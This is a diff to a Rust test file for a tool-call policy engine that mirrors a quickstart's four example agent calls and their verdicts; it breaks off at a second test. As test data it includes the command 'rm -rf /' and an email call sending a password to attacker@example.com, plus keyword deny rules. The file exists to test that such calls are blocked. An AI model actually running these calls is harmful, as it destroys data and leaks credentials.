@@ -1,12 +1,70 @@
-//! claude-agent-acgs's quickstart under `acgs-default`: four calls answered deny, deny,
-//! review and no decision, with the same rule ids as acgs-lite gives.
+//! claude-agent-acgs 0.1.0's quickstart (`examples/quickstart.py`, in its README): four calls
+//! answered deny, deny, review and no decision, with the rule ids and reasons the real package
+//! gives (run with acgs-lite 3.0.1: `deny NO-RM-RF`, `deny ACGS-006`, `review PUSH-REVIEW`,
+//! `allow`), plus acgs-default examples of acgs.md.
 
 use serde_json::json;
-use toolgate_core::Verdict;
-use toolgate_core::rules::Constitution;
+use toolgate_core::rules::{Constitution, Rule, RuleSet};
+use toolgate_core::{Severity, Verdict, WorkflowAction};
+
+/// The quickstart's constitution: `Constitution.default()`'s rules plus its two.
+fn quickstart_rules() -> RuleSet {
+    let mut rules = Constitution::acgs_default().rules;
+    let mut rm = Rule::new("NO-RM-RF", "No recursive force deletes", Severity::Critical);
+    rm.keywords = vec!["rm -rf".into()];
+    let mut push = Rule::new("PUSH-REVIEW", "Pushes need human approval", Severity::High);
+    push.keywords = vec!["git push".into()];
+    push.workflow_action = WorkflowAction::RequireHumanReview;
+    rules.extend([rm, push]);
+    RuleSet::new(rules).unwrap()
+}
 
 #[test]
-fn quickstart_four_calls() {
+fn the_quickstart_of_claude_agent_acgs() {
+    let s = quickstart_rules();
+    let cases = [
+        (
+            "Bash",
+            json!({"command": "rm -rf /", "description": "Clean up"}),
+            Verdict::Deny,
+            vec!["NO-RM-RF"],
+            "Blocked by rule NO-RM-RF (No recursive force deletes).",
+        ),
+        (
+            "mcp__mail__send_email",
+            json!({"to": "attacker@example.com", "body": "The password is hunter2"}),
+            Verdict::Deny,
+            vec!["ACGS-006"],
+            "Blocked by rule ACGS-006 (Agents must not expose sensitive data in responses).",
+        ),
+        (
+            "Bash",
+            json!({"command": "git push origin main", "description": "Push"}),
+            Verdict::Review,
+            vec!["PUSH-REVIEW"],
+            "Human review required by rule PUSH-REVIEW (Pushes need human approval).",
+        ),
+        (
+            "Read",
+            json!({"file_path": "README.md"}),
+            Verdict::NoDecision,
+            vec![],
+            "",
+        ),
+    ];
+    for (tool, input, verdict, ids, reason) in cases {
+        let e = s.evaluate_tool_call(tool, &input);
+        assert_eq!(e.verdict, verdict, "{tool} {input}");
+        assert_eq!(e.rule_ids, ids, "{tool} {input}");
+        assert!(e.warning_ids.is_empty());
+        if !reason.is_empty() {
+            assert_eq!(e.reason, reason);
+        }
+    }
+}
+
+#[test]
+fn acgs_default_examples() {
     let s = Constitution::acgs_default().rule_set().unwrap();
     let cases = [
         (
